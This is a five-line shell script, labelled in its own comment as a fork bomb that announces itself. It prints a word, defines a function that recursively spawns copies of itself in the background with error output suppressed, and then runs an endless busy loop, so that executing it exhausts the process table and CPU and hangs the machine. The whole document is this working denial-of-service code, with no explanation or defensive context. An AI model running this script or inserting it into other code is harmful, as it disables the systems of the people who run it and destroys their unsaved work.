# A fork bomb that says when it begins.
echo lit
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do :; done
